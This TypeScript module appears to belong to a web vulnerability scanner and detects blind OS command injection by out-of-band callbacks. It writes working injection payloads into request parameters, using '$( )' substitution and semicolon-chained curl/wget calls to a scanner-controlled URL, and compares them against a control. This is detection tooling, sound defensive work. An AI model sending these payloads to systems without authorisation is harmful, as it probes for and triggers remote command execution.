import { nameParameter, observeProbe, placeOf } from '../../evidence/observeProbe.ts'
import type { Observation } from '../../model/check.ts'
import type { CallbackUrl, ProbeContext } from '../../model/probe.ts'
import type { InsertionPoint } from '../_shared/insertionPoints.ts'
import { type Attempt, requestAt } from '../_shared/requestAt.ts'

/** Points that are tried: each takes callback URLs, of which a scan has 200. */
const pointsMax = 40
/** All together get this long after the last was sent. */
const waitMsMax = 5_000
const waitStepMs = 250

/** A way to have a shell request a URL. */
type CallPayload = {
  readonly name: string
  readonly write: (value: string, call: string) => string
}

const payloads: readonly CallPayload[] = [
  {
    name: 'command substitution with $( )',
    write: (value, call) => `${value}$(${call})'$(${call})'`,
  },
  {
    name: 'a semicolon',
    write: (value, call) => `${value};${call} #';${call} #";${call} #`,
  },
]

/** The URL is none before a shell has put it together: whoever fetches what looks like one does not fetch this. */
function callOf({ url }: CallbackUrl): string {
  const rest = url.replace(/^http:/, '')
  return `u=http:;(curl -sm4 $u${rest}||wget -qT4 -O- $u${rest})>/dev/null 2>&1`
}

type Context = Pick<ProbeContext, 'send' | 'accounts' | 'left' | 'callbacks' | 'wait'>

type Called = {
  readonly point: InsertionPoint
  readonly payload: CallPayload
  readonly asked: Attempt
  readonly url: CallbackUrl
}

/**
 * Finds parameters that a shell executes although the response shows nothing of it: it requests a URL of the scan, twice,
 * and the same words without the syntax of a shell do not make it. None where the target cannot call back.
 */
export async function findBlindCommands(
  context: Context,
  points: readonly InsertionPoint[],
): Promise<readonly Observation[]> {
  const tries = points.slice(0, pointsMax).flatMap((point) => payloads.map((payload) => ({ point, payload })))
  const called = await callThrough(context, tries)
  const first = called.filter(({ point }, index) => called.findIndex((one) => one.point === point) === index)
  const controls = await callThrough(
    context,
    first.map(({ point }) => ({ point, payload: control })),
  )
  const suspects = first.filter(({ point }) => !controls.some((one) => one.point === point))
  return (await callThrough(context, suspects)).map(observe)
}

const control: CallPayload = {
  name: 'none',
  write: (value, call) => `${value} ${call.replaceAll(/[;()]/g, ' ')}`,
}

/** Sends each with a URL of its own, and gives those whose URL was requested. */
async function callThrough(
  context: Context,
  tries: readonly Pick<Called, 'point' | 'payload'>[],
): Promise<readonly Called[]> {
  const sent: Called[] = []
  for (const { point, payload } of tries) {
    if (context.callbacks === null || context.left() === 0) break
    const url = await context.callbacks.open()
    const value = payload.write(point.parameter.value, callOf(url))
    const asked = await requestAt(context, point, { value })
    if (asked !== null) sent.push({ point, payload, asked, url })
  }
  for (let waitedMs = 0; waitedMs < waitMsMax && sent.length > 0; waitedMs += waitStepMs) {
    if (sent.every(({ url }) => url.wasCalled())) break
    await context.wait(waitStepMs)
  }
  return sent.filter(({ url }) => url.wasCalled())
}

function observe({ point: { entry, parameter }, payload, asked, url }: Called): Observation {
  return observeProbe(asked.request, asked.exchange, {
    sample: nameParameter(entry, parameter),
    place: placeOf(entry, parameter),
    about: `The request of the finding. Put a URL of yours in place of the one that ends in ${new URL(url.url).pathname}, such as that of \`python3 -m http.server\`, and see whether it is requested`,
    details: {
      parameter: parameter.name,
      written_with: payload.name,
      called: url.url,
      proof:
        'The server requested this callback URL, and another one before; the same words without shell syntax did not',
    },
  })
}
